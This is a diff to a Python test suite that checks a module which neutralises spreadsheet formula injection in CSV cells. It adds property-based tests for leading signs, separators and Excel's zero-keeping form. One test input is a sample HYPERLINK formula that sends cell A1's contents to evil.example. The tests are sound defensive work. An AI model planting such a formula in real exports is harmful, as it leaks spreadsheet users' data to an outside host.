@@ -1,10 +1,13 @@
 """What one cell means, kind by kind."""
 
 import contextlib
+import csv
+import io
+import string
 from datetime import date, timedelta
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from planner.rules.facts import ContactPolicy, Service, Signal, Status, Step2Policy
@@ -261,22 +264,73 @@ def test_a_fast_lane_takes_what_most_cells_look_like():
     assert codes.plain_nrmp_codes(["1601140C0", ""])
 
 
-@given(st.text())
+# Text in which the signs, separators, blanks and quotes that matter stand close together.
+RISKY = st.text(
+    st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20'\"\u201d;,|\t\r\n \xa0\u200b\ufeffab1")
+)
+SIGNS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
+
+
+def is_live(cell):
+    """Whether a spreadsheet may count what is in a cell; blanks and quotes hide nothing."""
+    return cell.lstrip(f'{string.whitespace}\x85\xa0\u200b\ufeff"\u201d')[:1] in SIGNS
+
+
+@given(st.one_of(st.text(), RISKY))
 def test_a_shield_comes_off_again_whatever_the_text(text):
-    shielded = cells.shielded(text)
-    assert shielded[:1] not in ("=", "+", "-", "@", "\t", "\r")
-    if not shielded.startswith('="'):
-        assert cells.unshielded(shielded) == text
-
-
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "'=1", "''=1", "'plain", "plain", ""])
-def test_shields_are_only_put_where_a_spreadsheet_would_count(text):
-    assert cells.shielded(text) == (text if "plain" in text or not text else f"'{text}")
     assert cells.unshielded(cells.shielded(text)) == text
 
 
-def test_excels_way_to_keep_a_zero_is_understood():
-    assert cells.unshielded('="0400521057"') == "0400521057"
+@pytest.mark.parametrize("separator", [",", ";", "|", "\t"])
+@settings(max_examples=300)
+@given(rows=st.lists(st.lists(RISKY, min_size=1, max_size=3), min_size=1, max_size=3))
+def test_no_cell_is_live_wherever_a_spreadsheet_splits_the_lines(separator, rows):
+    file = io.StringIO()
+    csv.writer(file).writerows([map(cells.shielded, row) for row in rows])
+    found = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=separator)
+    assert [cell for row in found for cell in row if is_live(cell)] == []
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@x", "'=1", "''=1", ' "=1', "\uff1d1", "\t1", "\n=1", "\xa0+1"]
+)
+def test_a_text_that_a_spreadsheet_would_count_has_an_apostrophe_before_it(text):
+    assert cells.shielded(text).startswith(f"'{text[0]}")
+    assert not is_live(cells.shielded(text))
+
+
+@pytest.mark.parametrize(
+    ("text", "shielded"),
+    [
+        ("Good;=1+1", "Good;'=1+1"),
+        ("a|b;  @x", "a|b;'  @x"),
+        ("one\n-two\n'+three", "one\n'-two\n''+three"),
+        ("x;'=y", "x;''=y"),
+        *((same, same) for same in ("plain", "'plain", "", "1+1=2", "a-b; c", "a,=b", "Dr. = MD")),
+    ],
+)
+def test_shields_are_only_put_where_a_spreadsheet_would_count(text, shielded):
+    assert cells.shielded(text) == shielded
+    assert cells.unshielded(shielded) == text
+
+
+def test_excels_way_to_keep_a_zero_is_understood_and_not_written_again():
+    for cell, text in (('="0400521057"', "0400521057"), ('="a ""b"""', 'a "b"')):
+        assert cells.unshielded(cell) == text
+        assert cells.rewritten(cell) == text
+
+
+@pytest.mark.parametrize(
+    "cell", ['="x"&HYPERLINK("http://evil.example/?"&A1,"click")&""', '="x"&"y"', "=A1", '="=1"']
+)
+def test_a_formula_is_never_written_again_as_one(cell):
+    assert not is_live(cells.rewritten(cell))
+    assert cells.unshielded(cells.rewritten(cell)) == cells.unshielded(cell)
+
+
+@given(st.one_of(RISKY, RISKY.map(lambda text: f'="{text}"')))
+def test_a_cell_that_is_written_again_means_the_same(cell):
+    assert cells.unshielded(cells.rewritten(cell)) == cells.unshielded(cell)
 
 
 @pytest.mark.parametrize("text", sorted(cells.FORMULA_ERRORS))
